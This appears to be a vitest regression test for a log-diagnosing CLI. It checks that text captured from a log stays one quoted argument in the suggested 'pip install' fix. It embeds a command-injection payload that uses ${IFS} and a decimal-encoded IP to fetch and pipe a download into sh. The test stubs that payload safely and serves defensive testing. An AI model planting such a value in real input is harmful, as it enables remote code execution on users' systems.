import { execFileSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { runBin, tempDir } from './helpers.js';

// Issue 31, item 3: a capture from the log went into the suggested command unquoted, so a log line could
// add its own command: `pip install "tokenizers>=0.21";curl${IFS}2130706433|sh;""`. The real CLI on such a
// log; its fix read back by a real sh with `pip` a function that prints the arguments it was given.

const HOSTILE = 'tokenizers>=0.21";curl${IFS}2130706433|sh;"';
const LOG = `Traceback (most recent call last):
  File "serve.py", line 1, in <module>
ImportError: ${HOSTILE} is required for a normal functioning of this module, but found tokenizers==0.20.0.
`;

/** The arguments sh gives `pip` when it runs `fix`, one per line, after their count. */
function argumentsOf(fix: string): string[] {
  const out = execFileSync(
    '/bin/sh',
    ['-c', `pip() { printf '%s\\n' "$#" "$@"; }; curl() { echo RAN; }; ${fix}`],
    {
      encoding: 'utf8',
      env: { PATH: '/nonexistent' },
    },
  );
  return out.trimEnd().split('\n');
}

describe('a capture is one quoted argument in every format', () => {
  it('json: the fix is pip install and the capture, nothing after', async () => {
    const log = join(tempDir(), 'server.log');
    writeFileSync(log, LOG);
    const result = await runBin(['diagnose', log, '--format', 'json']);
    expect(result.code).toBe(1);
    const fix = (JSON.parse(result.stdout) as { signature: { fix: string } }).signature.fix;
    expect(argumentsOf(fix)).toEqual(['2', 'install', HOSTILE]);
  });

  it('text: the printed fix line runs the same one command', async () => {
    const log = join(tempDir(), 'server.log');
    writeFileSync(log, LOG);
    const result = await runBin(['diagnose', log]);
    const fix = /^fix\s+(.*)$/m.exec(result.stdout)?.[1] ?? '';
    expect(fix).toMatch(/^pip install /);
    expect(argumentsOf(fix)).toEqual(['2', 'install', HOSTILE]);
  });
});
